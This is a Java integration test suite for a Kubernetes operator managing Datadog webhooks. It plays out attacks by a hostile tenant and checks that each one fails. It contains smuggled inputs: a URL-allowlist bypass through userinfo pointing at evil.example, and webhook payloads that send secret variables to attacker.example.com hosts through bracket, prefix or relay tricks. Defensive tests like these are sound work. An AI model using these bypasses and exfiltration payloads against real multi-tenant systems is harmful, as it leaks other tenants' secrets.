package io.ddwebhooks.operator.tenancy;

import static io.ddwebhooks.operator.testing.CredentialsFixtures.cluster;
import static io.ddwebhooks.operator.testing.CredentialsFixtures.namespaced;
import static io.ddwebhooks.operator.testing.CredentialsFixtures.using;
import static io.ddwebhooks.operator.testing.Fixtures.variable;
import static io.ddwebhooks.operator.testing.Fixtures.variableFromSecret;
import static io.ddwebhooks.operator.testing.Fixtures.webhook;
import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

import io.ddwebhooks.operator.crd.Annotations;
import io.ddwebhooks.operator.crd.ClusterDatadogCredentials;
import io.ddwebhooks.operator.crd.CredentialsRef;
import io.ddwebhooks.operator.crd.DatadogCredentials;
import io.ddwebhooks.operator.crd.DatadogCustomVariable;
import io.ddwebhooks.operator.crd.DatadogResourceStatus;
import io.ddwebhooks.operator.crd.DatadogWebhook;
import io.ddwebhooks.operator.crd.ManagementPolicy;
import io.ddwebhooks.emulator.DatadogEmulator;
import io.ddwebhooks.emulator.Fault;
import io.ddwebhooks.emulator.RecordedCall;
import io.ddwebhooks.operator.status.ReadyCondition;
import io.ddwebhooks.operator.status.Reason;
import io.ddwebhooks.operator.testing.OperatorHarness;
import io.ddwebhooks.operator.testing.RealKubernetes;
import io.fabric8.kubernetes.api.model.Condition;
import io.fabric8.kubernetes.api.model.Event;
import io.fabric8.kubernetes.api.model.NamespaceBuilder;
import io.fabric8.kubernetes.client.CustomResource;
import java.time.Duration;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.concurrent.TimeUnit;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;

/**
 * The threat model of docs/security.md, as an attacking tenant would try it: a tenant may create the
 * operator's namespaced kinds and Secrets in its own namespace, nothing else. Three tenants on a real API server
 * (RBAC on, server-side apply, the operator as its ServiceAccount) and four Datadog orgs in the emulator: the
 * operator's default org (shared), the victim's own org, the attacker's own trial org, and an org a cluster admin
 * opens to labelled namespaces. Each test is one attack from the tenant-isolation issue; it must change nothing in
 * another tenant's org and leak nothing.
 */
@Timeout(value = 4, unit = TimeUnit.MINUTES)
class TenantIsolationIT {

  private static final Duration RESYNC = Duration.ofSeconds(3);
  private static final String VICTIM = "victim";
  private static final String ATTACKER = "attacker";
  private static final String OUTSIDER = "outsider";
  private static final String OPS = RealKubernetes.OPERATOR_NAMESPACE;

  private static RealKubernetes k8s;
  private static OperatorHarness h;
  private static DatadogEmulator.Org shared;
  private static DatadogEmulator.Org victimOrg;
  private static DatadogEmulator.Org attackerOrg;
  private static DatadogEmulator.Org clusterOrg;

  @BeforeAll
  static void start() {
    k8s = RealKubernetes.start();
    for (String ns : List.of(VICTIM, ATTACKER, OUTSIDER)) {
      var labels = ns.equals(OUTSIDER) ? Map.<String, String>of() : Map.of("tenancy", "shared");
      k8s.admin().namespaces().resource(new NamespaceBuilder().withNewMetadata().withName(ns).withLabels(labels)
          .endMetadata().build()).create();
    }
    // the allowlist an admin would write to let tenants reach a local proxy on any port (here: the emulator)
    h = OperatorHarness.startOn(k8s, c -> c.withResyncInterval(RESYNC)
        .withCredentialsUrlAllowlist(List.of("http://127.0.0.1:")));
    shared = h.datadog.org(DatadogEmulator.DEFAULT_ORG);
    victimOrg = h.datadog.addOrg("victim-org", "victim-api-key-0123456789", "victim-app-key-0123456789");
    attackerOrg = h.datadog.addOrg("attacker-org", "attacker-api-key-0123456789", "attacker-app-key-0123456789");
    clusterOrg = h.datadog.addOrg("cluster-org", "cluster-api-key-0123456789", "cluster-app-key-0123456789");
    h.secret(VICTIM, "victim-keys", Map.of("api", "victim-api-key-0123456789", "app", "victim-app-key-0123456789"));
    h.secret(OPS, "cluster-keys", Map.of("api", "cluster-api-key-0123456789", "app", "cluster-app-key-0123456789"));
    k8s.admin().resource(cluster("tenants", url(), null, OPS, "cluster-keys", Map.of("tenancy", "shared")))
        .create();
    // the victim's own org, through credentials of its namespace (two objects, as teams have for prod and ops)
    k8s.admin().resource(namespaced(VICTIM, "prod-creds", url(), "victim", "victim-keys")).create();
    k8s.admin().resource(namespaced(VICTIM, "ops-creds", url(), "victim", "victim-keys")).create();
  }

  @AfterAll
  static void stop() {
    if (h != null) {
      h.close();
    }
    if (k8s != null) {
      k8s.close();
    }
  }

  private static String url() {
    return h.datadog.baseUrl().toString();
  }

  private static void attackerKeys(String secret) {
    h.secret(ATTACKER, secret, Map.of("api", "attacker-api-key-0123456789", "app", "attacker-app-key-0123456789"));
  }

  private static <R extends CustomResource<?, DatadogResourceStatus>> Optional<String> reason(Class<R> type,
      String ns, String name) {
    R r = h.get(type, ns, name);
    return r == null || r.getStatus() == null ? Optional.empty() : ReadyCondition.reason(r.getStatus());
  }

  private static List<RecordedCall> callsNaming(DatadogEmulator.Org org, String name) {
    return org.calls().stream().filter(c -> c.path().endsWith("/" + name)
        || c.requestBody().contains("\"name\":\"" + name + "\"")).toList();
  }

  private static List<RecordedCall> writesNaming(DatadogEmulator.Org org, String name) {
    return callsNaming(org, name).stream().filter(RecordedCall::isWrite).toList();
  }

  // ---------------------------------------------------------------- hole 0

  @Test
  void aNameConflictStaysAConflictThroughManyResyncs() {
    shared.putWebhookOutOfBand("ui-made-hook", "https://ui.example.com/original");
    h.create(named(webhook(ATTACKER, "grabber", "https://attacker.example.com/collect"), "ui-made-hook"));
    h.awaitReason(DatadogWebhook.class, ATTACKER, "grabber", Reason.NameConflict);

    // the takeover came one or two resyncs later: wait through several
    int seen = callsNaming(shared, "ui-made-hook").size();
    await().atMost(Duration.ofSeconds(60)).pollInterval(Duration.ofMillis(200)).untilAsserted(() -> {
      assertThat(callsNaming(shared, "ui-made-hook").size()).isGreaterThanOrEqualTo(seen + 5);
      assertThat(reason(DatadogWebhook.class, ATTACKER, "grabber")).contains(Reason.NameConflict.name());
    });
    assertThat(shared.webhook("ui-made-hook").orElseThrow().get("url").asText())
        .isEqualTo("https://ui.example.com/original");
    assertThat(writesNaming(shared, "ui-made-hook")).extracting(RecordedCall::method).doesNotContain("PUT",
        "DELETE");
    DatadogResourceStatus status = h.get(DatadogWebhook.class, ATTACKER, "grabber").getStatus();
    assertThat(status.getPendingName()).isNull();
    assertThat(status.getRemoteName()).isNull();

    // and deleting the resource leaves the object it never owned
    h.delete(DatadogWebhook.class, ATTACKER, "grabber");
    h.awaitGone(DatadogWebhook.class, ATTACKER, "grabber");
    assertThat(shared.webhook("ui-made-hook")).isPresent();
  }

  @Test
  void aLostCreateAnswerOnATakenNameIsNotATakeover() {
    // Datadog answers 5xx to the POST of a taken name: the create may have happened, so the name stays pending,
    // but the object found there does not hold what this resource sent: it is not recognised as its own
    shared.putWebhookOutOfBand("flaky-taken", "https://ui.example.com/flaky");
    h.datadog.failNext("POST", DatadogEmulator.WEBHOOKS, 1, Fault.serverError());
    h.create(named(webhook(ATTACKER, "flaky-grabber", "https://attacker.example.com/flaky"), "flaky-taken"));
    h.awaitReason(DatadogWebhook.class, ATTACKER, "flaky-grabber", Reason.NameConflict);
    int seen = callsNaming(shared, "flaky-taken").size();
    await().atMost(Duration.ofSeconds(60)).untilAsserted(() ->
        assertThat(callsNaming(shared, "flaky-taken").size()).isGreaterThanOrEqualTo(seen + 3));
    assertThat(shared.webhook("flaky-taken").orElseThrow().get("url").asText())
        .isEqualTo("https://ui.example.com/flaky");
    assertThat(writesNaming(shared, "flaky-taken")).extracting(RecordedCall::method).doesNotContain("PUT",
        "DELETE");
    h.delete(DatadogWebhook.class, ATTACKER, "flaky-grabber");
    h.awaitGone(DatadogWebhook.class, ATTACKER, "flaky-grabber");
    assertThat(shared.webhook("flaky-taken")).isPresent();
  }

  // ---------------------------------------------------------------- hole 1

  @Test
  void deletionNeverUsesAnotherTenantsKeysOfTheSameCredentialsName() {
    h.create(using(named(webhook(VICTIM, "victim-hook", "https://victim.example.com/hook"), "victim-hook"),
        CredentialsRef.NAMESPACED, "prod-creds"));
    h.awaitSynced(DatadogWebhook.class, VICTIM, "victim-hook");
    assertThat(victimOrg.webhookNames()).contains("victim-hook");

    // the attacker: credentials of the same name for its own org, a webhook of the same Datadog name there
    attackerKeys("my-keys");
    k8s.admin().resource(namespaced(ATTACKER, "prod-creds", url(), "attacker-trial", "my-keys")).create();
    h.create(using(named(webhook(ATTACKER, "copycat", "https://attacker.example.com/x"), "victim-hook"),
        CredentialsRef.NAMESPACED, "prod-creds"));
    h.awaitSynced(DatadogWebhook.class, ATTACKER, "copycat");
    assertThat(attackerOrg.webhookNames()).contains("victim-hook");

    // its keys go; the victim's resync resolves its own prod-creds meanwhile; then the attacker deletes
    h.deleteSecret(ATTACKER, "my-keys");
    int victimReads = callsNaming(victimOrg, "victim-hook").size();
    await().atMost(Duration.ofSeconds(30)).until(() -> callsNaming(victimOrg, "victim-hook").size() > victimReads);
    h.delete(DatadogWebhook.class, ATTACKER, "copycat");

    // its own credentials' last good keys delete its own copy, in its own org, and nothing of the victim's
    h.awaitGone(DatadogWebhook.class, ATTACKER, "copycat");
    assertThat(attackerOrg.webhookNames()).doesNotContain("victim-hook");
    assertThat(victimOrg.webhookNames()).contains("victim-hook");
    assertThat(writesNaming(victimOrg, "victim-hook")).extracting(RecordedCall::method).doesNotContain("DELETE");
    attackerKeys("my-keys");
  }

  @Test
  void aPendingNameFromADeadEndpointIsNeverDeletedElsewhere() {
    h.create(using(named(webhook(VICTIM, "victim-pending", "https://victim.example.com/p"), "victim-pending"),
        CredentialsRef.NAMESPACED, "ops-creds"));
    h.awaitSynced(DatadogWebhook.class, VICTIM, "victim-pending");

    // credentials of the same name at an allowed but dead address: the create is never answered, so the name
    // stays pending
    attackerKeys("dead-keys");
    k8s.admin().resource(namespaced(ATTACKER, "ops-creds", "http://127.0.0.1:1", null, "dead-keys")).create();
    h.create(using(named(webhook(ATTACKER, "dead-end", "https://attacker.example.com/d"), "victim-pending"),
        CredentialsRef.NAMESPACED, "ops-creds"));
    h.awaitReason(DatadogWebhook.class, ATTACKER, "dead-end", Reason.DatadogUnavailable);
    assertThat(h.get(DatadogWebhook.class, ATTACKER, "dead-end").getStatus().getPendingName())
        .isEqualTo("victim-pending");
    h.deleteSecret(ATTACKER, "dead-keys");
    int victimReads = callsNaming(victimOrg, "victim-pending").size();
    await().atMost(Duration.ofSeconds(30))
        .until(() -> callsNaming(victimOrg, "victim-pending").size() > victimReads);
    h.delete(DatadogWebhook.class, ATTACKER, "dead-end");
    await().atMost(Duration.ofSeconds(30)).untilAsserted(() -> assertThat(h.events(ATTACKER, "dead-end"))
        .anyMatch(e -> e.getReason().equals(Reason.CredentialsNotReady.name())
            || e.getReason().equals("Orphaned")));
    assertThat(victimOrg.webhookNames()).contains("victim-pending");
    assertThat(writesNaming(victimOrg, "victim-pending")).extracting(RecordedCall::method)
        .doesNotContain("DELETE");
    assertThat(writesNaming(shared, "victim-pending")).isEmpty();
    // let it go: the operator never wrote anything it could delete
    h.edit(DatadogWebhook.class, ATTACKER, "dead-end", w -> {
      w.getSpec().setDeletionPolicy(io.ddwebhooks.operator.crd.DeletionPolicy.Orphan);
      return w;
    });
    h.awaitGone(DatadogWebhook.class, ATTACKER, "dead-end");
    assertThat(victimOrg.webhookNames()).contains("victim-pending");
  }

  // ---------------------------------------------------------------- hole 2

  @Test
  void lookAlikeCredentialsAreAnotherOrgAndNeverOwnTheSharedOrgsObjects() {
    // an object of the shared org that no resource manages
    shared.putWebhookOutOfBand("org-wide-hook", "https://ui.example.com/org-wide");
    // namespaced credentials that look like the default org (same URL, no organization) but hold the attacker's keys
    attackerKeys("lookalike-keys");
    k8s.admin().resource(namespaced(ATTACKER, "lookalike", url(), null, "lookalike-keys")).create();
    h.create(using(named(webhook(ATTACKER, "mimic", "https://attacker.example.com/m"), "org-wide-hook"),
        CredentialsRef.NAMESPACED, "lookalike"));
    h.awaitSynced(DatadogWebhook.class, ATTACKER, "mimic");
    assertThat(attackerOrg.webhookNames()).contains("org-wide-hook");

    // dropping credentialsRef points it at the shared org: a move, which finds the name taken
    h.edit(DatadogWebhook.class, ATTACKER, "mimic", w -> {
      w.getSpec().setCredentialsRef(null);
      return w;
    });
    h.awaitReason(DatadogWebhook.class, ATTACKER, "mimic", Reason.NameConflict);
    int seen = callsNaming(shared, "org-wide-hook").size();
    await().atMost(Duration.ofSeconds(30)).until(() -> callsNaming(shared, "org-wide-hook").size() >= seen + 2);
    assertThat(shared.webhook("org-wide-hook").orElseThrow().get("url").asText())
        .isEqualTo("https://ui.example.com/org-wide");
    assertThat(writesNaming(shared, "org-wide-hook")).extracting(RecordedCall::method).doesNotContain("PUT",
        "DELETE");
    assertThat(attackerOrg.webhookNames()).as("the old copy stays until the move can finish")
        .contains("org-wide-hook");
  }

  @Test
  void lookAlikeCredentialsCannotSquatNamesOfTheSharedOrg() {
    attackerKeys("squat-keys");
    k8s.admin().resource(namespaced(ATTACKER, "squatter", url(), null, "squat-keys")).create();
    h.create(using(named(webhook(ATTACKER, "squat", "https://attacker.example.com/s"), "team-alerts"),
        CredentialsRef.NAMESPACED, "squatter"));
    h.awaitSynced(DatadogWebhook.class, ATTACKER, "squat");
    // the same name in the shared org belongs to nobody there: the victim may have it
    h.create(named(webhook(VICTIM, "team-alerts", "https://victim.example.com/alerts"), "team-alerts"));
    h.awaitSynced(DatadogWebhook.class, VICTIM, "team-alerts");
    assertThat(shared.webhook("team-alerts").orElseThrow().get("url").asText())
        .isEqualTo("https://victim.example.com/alerts");
  }

  @Test
  void aLookAlikeOrgsAnswersAreNotTheSharedOrgs() {
    // a secret variable of the shared org, made in the UI: no tenant may refer to it
    shared.putVariableOutOfBand("ORG_PAGER_KEY", "org-pager-secret-value", true);
    attackerKeys("probe-keys");
    k8s.admin().resource(namespaced(ATTACKER, "probe-creds", url(), null, "probe-keys")).create();
    // asked in the attacker's own org, the variable does not exist ...
    DatadogWebhook probe = using(webhook(ATTACKER, "probe", "https://attacker.example.com/probe"),
        CredentialsRef.NAMESPACED, "probe-creds");
    probe.getSpec().setPayload("{\"k\": \"$ORG_PAGER_KEY\"}");
    h.create(probe);
    await().atMost(Duration.ofSeconds(30)).until(() -> !callsNaming(attackerOrg, "ORG_PAGER_KEY").isEmpty());
    // ... which must not answer for the shared org
    DatadogWebhook leak = webhook(ATTACKER, "leak", "https://attacker.example.com/leak");
    leak.getSpec().setPayload("{\"k\": \"$ORG_PAGER_KEY\"}");
    h.create(leak);
    h.awaitReason(DatadogWebhook.class, ATTACKER, "leak", Reason.VariableNotAllowed);
    assertThat(shared.webhookNames()).doesNotContain("leak");
  }

  // ---------------------------------------------------------------- hole 3

  @Test
  void aDecoyDeclarationDoesNotOpenAUiMadeSecret() {
    shared.putVariableOutOfBand("UI_SECRET", "ui-secret-value", true);
    // the attacker declares its own, readable UI_SECRET: it loses the name ...
    h.create(named(variable(ATTACKER, "decoy", "harmless", false), "UI_SECRET"));
    h.awaitReason(DatadogCustomVariable.class, ATTACKER, "decoy", Reason.NameConflict);
    // ... and its declaration must not make the real one usable
    DatadogWebhook w = webhook(ATTACKER, "uses-ui-secret", "https://attacker.example.com/u");
    w.getSpec().setPayload("{\"k\": \"$UI_SECRET\"}");
    h.create(w);
    h.awaitReason(DatadogWebhook.class, ATTACKER, "uses-ui-secret", Reason.VariableNotAllowed);
    assertThat(shared.webhookNames()).doesNotContain("uses-ui-secret");
  }

  @Test
  void aDecoyDeclarationDoesNotOpenAnotherTenantsSecret() {
    h.create(named(variable(VICTIM, "victim-token", "victim-token-value", true), "VICTIM_TOKEN"));
    h.awaitSynced(DatadogCustomVariable.class, VICTIM, "victim-token");
    h.create(named(variable(ATTACKER, "victim-token", "decoy", false), "VICTIM_TOKEN"));
    h.awaitReason(DatadogCustomVariable.class, ATTACKER, "victim-token", Reason.NameConflict);
    DatadogWebhook w = webhook(ATTACKER, "uses-victim-token", "https://attacker.example.com/v");
    w.getSpec().setPayload("{\"k\": \"$VICTIM_TOKEN\"}");
    h.create(w);
    h.awaitReason(DatadogWebhook.class, ATTACKER, "uses-victim-token", Reason.VariableNotAllowed);
    assertThat(shared.webhookNames()).doesNotContain("uses-victim-token");
    await().untilAsserted(() -> assertThat(h.events(VICTIM, "victim-token"))
        .anyMatch(e -> e.getReason().equals("ForeignReferences")));
  }

  // ---------------------------------------------------------------- hole 4

  @Test
  void referencesHiddenInBracketsOrLongerTokensOrSecretValuesAreFound() {
    shared.putVariableOutOfBand("HIDDEN_KEY", "hidden-secret-value", true);
    for (String[] c : List.of(new String[] {"in-date", "{\"d\": \"$DATE[$HIDDEN_KEY]\"}"},
        new String[] {"in-tags", "{\"t\": \"$TAGS[x $HIDDEN_KEY]\"}"})) {
      DatadogWebhook w = webhook(ATTACKER, c[0], "https://attacker.example.com/" + c[0]);
      w.getSpec().setPayload(c[1]);
      h.create(w);
    }
    h.awaitReason(DatadogWebhook.class, ATTACKER, "in-date", Reason.VariableNotAllowed);
    h.awaitReason(DatadogWebhook.class, ATTACKER, "in-tags", Reason.VariableNotAllowed);

    // a declared secret name that begins a longer token
    h.create(named(variable(VICTIM, "vkey", "victim-vkey-value", true), "VKEY"));
    h.awaitSynced(DatadogCustomVariable.class, VICTIM, "vkey");
    DatadogWebhook prefix = webhook(ATTACKER, "prefix", "https://attacker.example.com/prefix");
    prefix.getSpec().setPayload("{\"k\": \"$VKEYSUFFIX\"}");
    h.create(prefix);
    h.awaitReason(DatadogWebhook.class, ATTACKER, "prefix", Reason.VariableNotAllowed);

    // a relay: the attacker's own variable whose value, read from a Secret, refers to the secret
    h.secret(ATTACKER, "relay-value", Map.of("v", "$HIDDEN_KEY"));
    h.create(named(variableFromSecret(ATTACKER, "relay", "relay-value", "v", false), "RELAY"));
    h.awaitSynced(DatadogCustomVariable.class, ATTACKER, "relay");
    DatadogWebhook relay = webhook(ATTACKER, "via-relay", "https://attacker.example.com/relay");
    relay.getSpec().setPayload("{\"k\": \"$RELAY\"}");
    h.create(relay);
    h.awaitReason(DatadogWebhook.class, ATTACKER, "via-relay", Reason.VariableNotAllowed);
    assertThat(shared.webhookNames()).doesNotContain("in-date", "in-tags", "prefix", "via-relay");
  }

  // ---------------------------------------------------------------- hole 5

  @Test
  void theUrlAllowlistComparesParsedUrls() {
    attackerKeys("url-keys");
    int port = h.datadog.baseUrl().getPort();
    for (String[] c : List.of(new String[] {"userinfo", "http://127.0.0.1:" + port + "@evil.example/"},
        new String[] {"query", "http://127.0.0.1:" + port + "/?"},
        new String[] {"fragment", "http://127.0.0.1:" + port + "/#x"})) {
      k8s.admin().resource(namespaced(ATTACKER, "url-" + c[0], c[1], null, "url-keys")).create();
      h.create(using(webhook(ATTACKER, "via-" + c[0], "https://attacker.example.com/" + c[0]),
          CredentialsRef.NAMESPACED, "url-" + c[0]));
    }
    for (String c : List.of("userinfo", "query", "fragment")) {
      h.awaitReason(DatadogWebhook.class, ATTACKER, "via-" + c, Reason.CredentialsNotReady);
      await().untilAsserted(() -> assertThat(credentialsReason(ATTACKER, "url-" + c)).contains("URLNotAllowed"));
    }
  }

  // ---------------------------------------------------------------- hole 6

  @Test
  void aNamespaceOutsideTheSelectorNeitherSquatsNamesNorHoldsCredentials() {
    // the outsider may not use the admin's credentials, so its claim is no claim
    h.create(using(named(webhook(OUTSIDER, "squat", "https://outsider.example.com"), "tenant-hook"),
        CredentialsRef.CLUSTER, "tenants"));
    h.awaitReason(DatadogWebhook.class, OUTSIDER, "squat", Reason.CredentialsNotAllowed);
    h.create(using(named(webhook(VICTIM, "tenant-hook", "https://victim.example.com/t"), "tenant-hook"),
        CredentialsRef.CLUSTER, "tenants"));
    h.awaitSynced(DatadogWebhook.class, VICTIM, "tenant-hook");
    assertThat(clusterOrg.webhook("tenant-hook").orElseThrow().get("url").asText())
        .isEqualTo("https://victim.example.com/t");

    // nor does it hold up the deletion of credentials it may not use
    h.secret(OPS, "other-keys", Map.of("api", "cluster-api-key-0123456789", "app", "cluster-app-key-0123456789"));
    k8s.admin().resource(cluster("closed", url(), null, OPS, "other-keys", Map.of("tenancy", "nobody"))).create();
    h.create(using(webhook(OUTSIDER, "holder", "https://outsider.example.com/h"), CredentialsRef.CLUSTER,
        "closed"));
    h.awaitReason(DatadogWebhook.class, OUTSIDER, "holder", Reason.CredentialsNotAllowed);
    await().untilAsserted(() -> assertThat(k8s.admin().resources(ClusterDatadogCredentials.class)
        .withName("closed").get().getMetadata().getFinalizers()).isNotEmpty());
    k8s.admin().resources(ClusterDatadogCredentials.class).withName("closed").delete();
    await().atMost(Duration.ofSeconds(30)).untilAsserted(() ->
        assertThat(k8s.admin().resources(ClusterDatadogCredentials.class).withName("closed").get()).isNull());
  }

  @Test
  void perResourceIntervalsHaveAFloor() {
    DatadogWebhook w = webhook(ATTACKER, "hammer", "https://attacker.example.com/hammer");
    w.getMetadata().setAnnotations(Map.of(Annotations.REAPPLY_INTERVAL, "5s"));
    h.create(w);
    Condition c = h.awaitReason(DatadogWebhook.class, ATTACKER, "hammer", Reason.InvalidSpec);
    assertThat(c.getMessage()).contains(Annotations.REAPPLY_INTERVAL).contains("at least");
    assertThat(shared.webhookNames()).doesNotContain("hammer");
  }

  // ---------------------------------------------------------------- hole 7

  @Test
  void theOrgsKeysNeverReachStatusOrEvents() {
    // Datadog (or a proxy) echoing the org's keys in an error
    h.datadog.failNext("POST", DatadogEmulator.WEBHOOKS, 1, Fault.status(400,
        "bad request from " + OperatorHarness.API_KEY + " / " + OperatorHarness.APP_KEY));
    h.create(webhook(VICTIM, "echoed-keys", "https://victim.example.com/e"));
    Condition c = h.awaitReason(DatadogWebhook.class, VICTIM, "echoed-keys", Reason.DatadogRejected);
    assertThat(c.getMessage()).doesNotContain(OperatorHarness.API_KEY).doesNotContain(OperatorHarness.APP_KEY);
    await().untilAsserted(() -> assertThat(h.events(VICTIM, "echoed-keys")).isNotEmpty());
    for (Event e : h.events(VICTIM, "echoed-keys")) {
      assertThat(e.getMessage()).doesNotContain(OperatorHarness.API_KEY).doesNotContain(OperatorHarness.APP_KEY);
    }
  }

  @Test
  void statusNamesTheOrgBySchemeHostAndPortOnly() {
    String withUserInfo = "http://proxy-user:proxy-password@127.0.0.1:" + h.datadog.baseUrl().getPort() + "/";
    k8s.admin().resource(cluster("proxied", withUserInfo, null, OPS, "cluster-keys", Map.of("tenancy", "shared")))
        .create();
    h.create(using(webhook(VICTIM, "via-proxy", "https://victim.example.com/proxy"), CredentialsRef.CLUSTER,
        "proxied"));
    h.awaitSynced(DatadogWebhook.class, VICTIM, "via-proxy");
    String org = h.get(DatadogWebhook.class, VICTIM, "via-proxy").getStatus().getCredentials().getOrg();
    assertThat(org).isEqualTo("http://127.0.0.1:" + h.datadog.baseUrl().getPort());
    String everything = h.client.getKubernetesSerialization().asJson(h.get(DatadogWebhook.class, VICTIM,
        "via-proxy"));
    assertThat(everything).doesNotContain("proxy-password").doesNotContain("proxy-user");
  }

  @Test
  void observeOnlyIsNoOracleOnAnotherTenantsObject() {
    h.create(named(webhook(VICTIM, "private", "https://victim.example.com/token-abc123"), "private-hook"));
    h.awaitSynced(DatadogWebhook.class, VICTIM, "private");
    DatadogWebhook guess = named(webhook(ATTACKER, "guess", "https://victim.example.com/token-abc123"),
        "private-hook");
    guess.getSpec().setManagementPolicy(ManagementPolicy.ObserveOnly);
    h.create(guess);
    Condition c = h.awaitReason(DatadogWebhook.class, ATTACKER, "guess", Reason.NameConflict);
    assertThat(c.getMessage()).as("names nothing of another namespace").doesNotContain(VICTIM)
        .doesNotContain("matches").doesNotContain("differs");
  }

  @Test
  void hintsNameOnlyWhatTheReadersNamespaceMaySee() {
    h.create(named(variable(VICTIM, "victim-internal", "v", false), "VICTIM_INTERNAL_NAME"));
    h.awaitSynced(DatadogCustomVariable.class, VICTIM, "victim-internal");
    DatadogWebhook w = webhook(ATTACKER, "typo", "https://attacker.example.com/typo");
    w.getSpec().setPayload("{\"k\": \"$VICTIM_INTERNAL_NAMF\"}");
    h.create(w);
    await().untilAsserted(() -> {
      DatadogWebhook now = h.get(DatadogWebhook.class, ATTACKER, "typo");
      assertThat(now.getStatus()).isNotNull();
      assertThat(now.getStatus().getConditions()).anySatisfy(x -> {
        assertThat(x.getType()).isEqualTo("VariablesResolved");
        assertThat(x.getMessage()).contains("$VICTIM_INTERNAL_NAMF").doesNotContain("did you mean");
      });
    });
  }

  // ---------------------------------------------------------------- helpers

  private static <R extends CustomResource<? extends io.ddwebhooks.operator.crd.ManagedSpec, ?>> R named(R r,
      String datadogName) {
    if (r.getSpec() instanceof io.ddwebhooks.operator.crd.DatadogWebhookSpec s) {
      s.setName(datadogName);
    } else if (r.getSpec() instanceof io.ddwebhooks.operator.crd.DatadogCustomVariableSpec s) {
      s.setName(datadogName);
    }
    return r;
  }

  private static Optional<String> credentialsReason(String ns, String name) {
    DatadogCredentials c = k8s.admin().resources(DatadogCredentials.class).inNamespace(ns).withName(name).get();
    return c == null || c.getStatus() == null ? Optional.empty() : c.getStatus().getConditions().stream()
        .filter(x -> x.getType().equals("Ready")).map(Condition::getReason).findFirst();
  }
}
